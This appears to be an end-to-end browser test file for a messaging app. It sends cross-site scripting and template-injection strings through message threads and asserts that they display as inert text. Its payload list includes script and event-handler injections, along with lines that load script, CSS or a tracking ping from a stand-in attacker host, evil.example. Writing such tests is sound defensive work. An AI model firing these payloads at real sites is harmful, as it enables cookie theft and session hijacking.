"""Text that wants to be more than text: shown as it was written, and nothing else happens.

The watch of every test does the rest: no dialog, no broken policy, no request to anyone else.
"""

import json
import random

from messaging.texts import cleaned, is_blank, one_line, shown
from tests.journeys import browsers, steps
from tests.journeys.browsers import result
from tests.journeys.house import House
from tests.shared import shared

OURS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(document.cookie)</script>",
    '"><svg/onload=alert(1)>',
    "</template><img src=//evil.example/x onerror=alert(1)>",
    "</script><script src=https://evil.example/x.js></script>",
    "{{ request.session }} {% debug %} ${alert(1)} #{alert(1)}",
    "javascript:alert(1)//https://evil.example/",
    "<a href='https://evil.example' ping='https://evil.example/p'>press</a>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "\u202egnp.exe and \u2066back",
    "&lt;b&gt; &amp;amp; &#x3C;img&#x3E;",
    "m" * 70 + "." + "<wbr>" * 6,
    "W\u0336\u0336\u0336i\u0336d\u0336e " + "\u0e47" * 40,
]


def naughty(chance: random.Random, count: int) -> list[str]:
    """So many of the big list of naughty strings, two thirds of them with markup in it."""
    every = json.loads(shared("badinput/blns.json").read_text())
    fit = {cleaned(each): None for each in every if not is_blank(each) and "\n" not in each}
    marked = [each for each in fit if "<" in each]
    others = [each for each in fit if "<" not in each]
    found = chance.sample(marked, count * 2 // 3) + chance.sample(others, count - count * 2 // 3)
    return chance.sample(found, count)


def test_our_own_attempts_are_text(house: House):
    a_thread_of(house, "imani", OURS)


def test_the_big_list_of_naughty_strings_is_text(house: House, chance: random.Random):
    strings = naughty(chance, 120)

    a_thread_of(house, "imani", strings[:60])
    a_thread_of(house, "imani", strings[60:])


def a_thread_of(house: House, patient: str, strings: list[str]) -> None:
    """All of them go through a topic, the form, the live page and the pages of both sides."""
    topic = next(each for each in strings if "<" in each and len(each) < 100)
    page = house.open(patient)
    address = steps.write(page, topic, strings[0])
    desk = house.open("okafor", "/threads/")
    assert shown(one_line(topic)) in desk.locator("main").inner_text()
    assert browsers.fits(desk)
    desk.goto(address)
    steps.connection(desk, steps.LIVE).wait_for()
    lines = [strings[0]]
    # A few at a time: what stands together stays together, and the pace is a person's.
    for start in range(1, len(strings), 7):
        lines.append("\n".join(strings[start : start + 7]))
        steps.send(page, lines[-1])
        desk.locator(f"#m{len(lines)}").wait_for()
    page.locator(f"#m{len(lines)}").wait_for()

    wanted = [shown(cleaned(each)) for each in lines]
    live = [steps.transcript(each) for each in (page, desk)]
    for each in (page, desk):
        each.reload()
        assert result(each, "document.querySelectorAll('.text *').length") == 0
    anew = [steps.transcript(each) for each in (page, desk)]
    for found in (*live, *anew):
        assert [text for _, _, text in found] == wanted
    assert page.get_by_role("heading", level=1).inner_text() == shown(one_line(topic))
    assert page.title().startswith(shown(one_line(topic)))
    for each in (page, desk):
        assert browsers.fits(each)
        each.goto("/")
        assert browsers.fits(each)
